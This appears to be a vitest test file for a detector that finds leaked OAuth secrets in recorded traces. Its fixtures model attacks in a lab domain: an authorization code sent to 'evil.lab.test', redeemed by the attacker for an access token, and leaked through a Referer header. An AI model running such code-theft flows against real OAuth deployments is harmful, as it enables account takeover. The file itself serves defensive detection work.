import { expect, test } from 'vitest';
import { leaksOf } from './leaks.ts';
import type { Exchange, Party, Trace } from '../trace.ts';

const PARTIES: readonly Party[] = [
  { id: 'browser', name: 'Browser', kind: 'user', origins: [] },
  { id: 'app', name: 'App', kind: 'client', origins: [] },
  { id: 'attacker', name: 'Attacker', kind: 'attacker', origins: [] },
  { id: 'as', name: 'Authorization server', kind: 'authorization-server', origins: [] },
];

const FORM = [['Content-Type', 'application/x-www-form-urlencoded']] as const;
const JSON_TYPE = [['Content-Type', 'application/json']] as const;

type Sent = Partial<Exchange> & Pick<Exchange, 'from' | 'to'>;

const get = (url: string): Exchange['request'] => ({ method: 'GET', url, headers: [], body: '' });
const post = (body: string): Exchange['request'] => ({ method: 'POST', url: 'https://as.lab.test/token', headers: FORM, body });
const tokens = { status: 200, headers: JSON_TYPE, body: '{"access_token":"at-of-alice"}' };
const redirect = { status: 303, headers: [['Location', 'https://app.lab.test/callback?code=c0de-of-alice']] as const, body: '' };

const trace = (...sent: readonly Sent[]): Trace => ({
  parties: PARTIES,
  off: [],
  exchanges: sent.map((one, index) => ({
    number: index + 1,
    request: get('https://as.lab.test/authorize?client_id=app'),
    response: { status: 200, headers: [], body: '' },
    checks: [],
    at: 0,
    edited: [],
    ...one,
  })),
});

test('a code that a redirect takes to the attacker is a leak, and what it is redeemed for is gained', () => {
  const leaks = leaksOf(
    trace(
      { from: 'browser', to: 'as', response: redirect },
      { from: 'browser', to: 'attacker', request: get('https://evil.lab.test/?code=c0de-of-alice') },
      { from: 'attacker', to: 'as', request: post('code=c0de-of-alice'), response: tokens },
    ),
  );
  expect(leaks.map(({ message, how, kind, first }) => [message, how, kind, first])).toEqual([
    [2, 'sent', 'authorization code', 1],
    [3, 'gained', 'access token', undefined],
  ]);
});

test('what the attacker sends and only others had sent before was read on its way', () => {
  const leaks = leaksOf(
    trace(
      { from: 'browser', to: 'as', request: get('https://as.lab.test/authorize?code_challenge=plain-verifier') },
      { from: 'attacker', to: 'as', request: post('code_verifier=plain-verifier') },
    ),
  );
  expect(leaks).toMatchObject([{ message: 2, how: 'used', kind: 'code verifier', first: 1 }]);
});

test('a token in a Referer or behind percent signs is seen as well', () => {
  const request = {
    ...get('https://evil.lab.test/picture'),
    headers: [['Referer', 'https://app.lab.test/?next=%3Fcode%3Dc0de-of-alice']] as const,
  };
  expect(leaksOf(trace({ from: 'browser', to: 'as', response: redirect }, { from: 'browser', to: 'attacker', request }))).toMatchObject([
    { message: 2, how: 'sent', kind: 'authorization code' },
  ]);
});

test('what an attacker brings along or gets for something of their own is no leak', () => {
  expect(
    leaksOf(
      trace(
        { from: 'attacker', to: 'as', request: post('username=mallory&password=my-own-password'), response: tokens },
        {
          from: 'attacker',
          to: 'as',
          request: { ...get('https://as.lab.test/userinfo'), headers: [['Authorization', 'Bearer at-of-alice']] },
        },
      ),
    ),
  ).toEqual([]);
});

test('a message that never arrived leaks nothing, and without an attacker nothing leaks', () => {
  const lost = { from: 'browser', to: 'attacker', request: get('https://evil.lab.test/?code=c0de-of-alice'), failure: 'Nobody answers.' };
  expect(leaksOf(trace({ from: 'browser', to: 'as', response: redirect }, { ...lost, response: undefined }))).toEqual([]);
  expect(leaksOf(trace({ from: 'browser', to: 'app', request: get('https://app.lab.test/callback?code=c0de-of-alice') }))).toEqual([]);
});
